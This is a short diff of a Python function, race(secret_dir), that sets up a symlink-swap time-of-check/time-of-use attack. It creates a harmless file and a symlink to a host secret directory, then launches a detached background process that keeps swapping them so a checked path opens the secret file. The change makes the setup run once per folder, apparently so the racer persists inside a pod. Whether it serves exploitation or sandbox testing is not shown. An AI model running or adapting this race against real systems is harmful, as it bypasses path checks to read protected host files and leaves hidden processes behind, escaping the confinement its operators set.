@@ -43,13 +43,11 @@ def race(secret_dir):
     # d/out.txt is harmless; l -> secret_dir holds an out.txt of the host.
     # A process left behind swaps d and l as fast as it can, so that a path
     # resolved and checked, then opened again, lands in secret_dir.
-    if not os.path.isdir("d"):
+    if not os.path.exists(".racer"):  # once per folder: a pod's stays
         os.mkdir("d")
         with open("d/out.txt", "w") as f:
             f.write("harmless")
-    if not os.path.lexists("l"):
         os.symlink(secret_dir, "l")
-    if not os.path.exists(".racer"):
         open(".racer", "w").close()
         subprocess.Popen([sys.executable, "-c", RACER], start_new_session=True)
         time.sleep(0.2)
